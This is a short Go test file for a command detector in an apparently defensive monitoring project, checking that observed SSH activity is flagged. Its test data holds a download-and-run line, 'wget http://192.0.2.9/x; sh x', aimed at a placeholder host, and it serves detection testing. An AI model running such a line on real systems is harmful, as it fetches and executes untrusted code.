package command

import (
	"testing"

	"bartizan/internal/detect"
	"bartizan/internal/detect/detecttest"
	"bartizan/internal/observe"
)

func fresh(t *testing.T) func() detect.Detector {
	return func() detect.Detector {
		d, err := New(Default())
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
}

func TestSuite(t *testing.T) {
	var telling []observe.Observation
	for _, o := range []observe.Observation{
		{Service: "ssh", Command: &observe.Command{Line: "wget http://192.0.2.9/x; sh x"}},
		{Service: "ssh", Fetch: &observe.Fetch{URL: "http://192.0.2.9/x", Tool: "wget"}},
	} {
		telling = append(telling, detecttest.Observation(o))
	}
	detecttest.Run(t, fresh(t), telling...)
}
